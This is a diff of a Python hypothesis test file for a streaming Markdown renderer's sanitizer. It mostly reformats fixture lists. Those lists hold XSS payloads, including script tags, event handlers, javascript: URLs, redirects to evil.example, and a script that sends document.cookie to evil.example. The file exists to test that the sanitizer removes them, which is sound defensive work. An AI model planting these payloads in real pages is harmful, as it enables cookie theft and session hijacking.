@@ -12,12 +12,12 @@ from __future__ import annotations
 import os
 from typing import Any
 
+from chunking import cut, cut_at, stream
 from hypothesis import HealthCheck, given, note, settings
 from hypothesis import strategies as st
 
-from chunking import cut, cut_at, stream
 from renderer import render_markdown
-from renderer.sanitize import check_allowlist
+from renderer.sanitizer.clean import check_allowlist
 
 Draw = Any  # hypothesis' draw callable; its precise type is private
 
@@ -25,11 +25,54 @@ MAX_EXAMPLES = int(os.environ.get("LLM_MARKDOWN_EXAMPLES", "150"))
 """Kept moderate for the suite's sake; raise it for a long hunt."""
 
 WORDS = (
-    "the", "model", "returns", "a", "value", "of", "streaming", "Markdown", "is",
-    "fine", "token", "42", "3.14", "x", "foo_bar", "snake_case", "über", "naïve",
-    "日本語", "emoji 🚀", "e.g.", "(see", "below)", "it's", '"quoted"', "a*b", "2*3",
-    "under_score", "~tilde", "#hash", "C#", "100%", "<T>", "a < b", "&", "&amp;",
-    "&lt;script&gt;", "\\*", "\\_", "1.", "-", "+", "|", "`", "[", "]", "!", ":",
+    "the",
+    "model",
+    "returns",
+    "a",
+    "value",
+    "of",
+    "streaming",
+    "Markdown",
+    "is",
+    "fine",
+    "token",
+    "42",
+    "3.14",
+    "x",
+    "foo_bar",
+    "snake_case",
+    "über",
+    "naïve",
+    "日本語",
+    "emoji 🚀",
+    "e.g.",
+    "(see",
+    "below)",
+    "it's",
+    '"quoted"',
+    "a*b",
+    "2*3",
+    "under_score",
+    "~tilde",
+    "#hash",
+    "C#",
+    "100%",
+    "<T>",
+    "a < b",
+    "&",
+    "&amp;",
+    "&lt;script&gt;",
+    "\\*",
+    "\\_",
+    "1.",
+    "-",
+    "+",
+    "|",
+    "`",
+    "[",
+    "]",
+    "!",
+    ":",
 )
 
 SAFE_URLS = (
@@ -57,43 +100,43 @@ INLINE_HTML = (
     "<sup>2</sup>",
     "<sub>i</sub>",
     "<br>",
-    "<span style=\"color:red\">red</span>",
-    "<abbr title=\"HyperText\">HTML</abbr>",
+    '<span style="color:red">red</span>',
+    '<abbr title="HyperText">HTML</abbr>',
     "<mark>marked</mark>",
     "<!-- a comment -->",
-    "<b onclick=\"alert(1)\">bold</b>",
+    '<b onclick="alert(1)">bold</b>',
 )
 
 HOSTILE_INLINE = (
     "<script>alert(1)</script>",
-    "<script src=\"https://evil.example/x.js\"></script>",
+    '<script src="https://evil.example/x.js"></script>',
     "<img src=x onerror=alert(1)>",
-    "<img src=\"javascript:alert(1)\">",
-    "<a href=\"javascript:alert(1)\">click</a>",
-    "<iframe src=\"https://evil.example\"></iframe>",
+    '<img src="javascript:alert(1)">',
+    '<a href="javascript:alert(1)">click</a>',
+    '<iframe src="https://evil.example"></iframe>',
     "<svg onload=alert(1)>",
     "<style>body{display:none}</style>",
-    "<object data=\"x\"></object>",
+    '<object data="x"></object>',
     "<input autofocus onfocus=alert(1)>",
-    "<a href=\"https://example.com\" onmouseover=\"alert(1)\">hover</a>",
+    '<a href="https://example.com" onmouseover="alert(1)">hover</a>',
     "<math><mtext><script>alert(1)</script></mtext></math>",
     "<scr<script>ipt>alert(1)</script>",
-    "<form action=\"https://evil.example\"><button>go</button></form>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+    '<form action="https://evil.example"><button>go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
 )
 
 HTML_BLOCKS = (
     "<details>\n<summary>More</summary>\n\nHidden *text*.\n\n</details>",
     "<details open>\n<summary>Open</summary>\n- item\n</details>",
-    "<div align=\"center\">\n<img src=\"https://example.com/a.png\" alt=\"a\">\n</div>",
+    '<div align="center">\n<img src="https://example.com/a.png" alt="a">\n</div>',
     "<table>\n<tr><td>raw</td></tr>\n</table>",
     "<!--\nmulti-line comment\n-->",
     "<p>raw paragraph with <em>em</em></p>",
     "<kbd>Esc</kbd> closes it",
     "<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>",
     "<style>\n* { color: red }\n</style>",
-    "<iframe src=\"https://evil.example\">\n</iframe>",
-    "<div onclick=\"alert(1)\">\n\nclick *me*\n\n</div>",
+    '<iframe src="https://evil.example">\n</iframe>',
+    '<div onclick="alert(1)">\n\nclick *me*\n\n</div>',
     "<img src=x\nonerror=alert(1)>",
     "<textarea>\n</textarea><script>alert(1)</script>",
     "<pre>\n<script>alert(1)</script>\n</pre>",
@@ -129,10 +172,32 @@ def inline(draw: Draw, depth: int = 0) -> str:
     kind = draw(
         st.sampled_from(
             (
-                "text", "text", "text", "em", "strong", "em_", "strong_", "strike", "code",
-                "code2", "link", "link_title", "ref_link", "collapsed_ref", "shortcut_ref",
-                "image", "autolink", "email", "bare_url", "html", "hostile", "hostile_link",
-                "escape", "entity", "dangling", "hard_break",
+                "text",
+                "text",
+                "text",
+                "em",
+                "strong",
+                "em_",
+                "strong_",
+                "strike",
+                "code",
+                "code2",
+                "link",
+                "link_title",
+                "ref_link",
+                "collapsed_ref",
+                "shortcut_ref",
+                "image",
+                "autolink",
+                "email",
+                "bare_url",
+                "html",
+                "hostile",
+                "hostile_link",
+                "escape",
+                "entity",
+                "dangling",
+                "hard_break",
             )
         )
     )
@@ -246,9 +311,7 @@ def table(draw: Draw) -> str:
     cell = st.one_of(words(3), st.just("`a|b`"), st.just("a \\| b"), st.just(""), inline())
     header = draw(st.lists(cell, min_size=columns, max_size=columns))
     delimiter = draw(st.lists(align, min_size=columns, max_size=columns))
-    rows = draw(
-        st.lists(st.lists(cell, min_size=max(columns - 1, 1), max_size=columns + 1), max_size=4)
-    )
+    rows = draw(st.lists(st.lists(cell, min_size=max(columns - 1, 1), max_size=columns + 1), max_size=4))
     outer = draw(st.booleans())
 
     def row(cells: list[str]) -> str:
@@ -383,9 +446,25 @@ def test_streamed_llm_answers_converge_and_every_state_is_clean(
 
 SOUP = (
     *"*_`[]()<>!#-=|~ \n\n\n\t>1.:ab\\&;\r",
-    "```", "~~~", "    ", "- ", "1. ", "> ", "\r\n", "\x00", "&amp;", "https://x.y",
-    "| a | b |\n|---|---|\n", "[r]: /u\n", "[r]", "<div>", "</div>", "<details>",
-    "<script>", "<img src=x onerror=y>", "javascript:",
+    "```",
+    "~~~",
+    "    ",
+    "- ",
+    "1. ",
+    "> ",
+    "\r\n",
+    "\x00",
+    "&amp;",
+    "https://x.y",
+    "| a | b |\n|---|---|\n",
+    "[r]: /u\n",
+    "[r]",
+    "<div>",
+    "</div>",
+    "<details>",
+    "<script>",
+    "<img src=x onerror=y>",
+    "javascript:",
 )
 
 
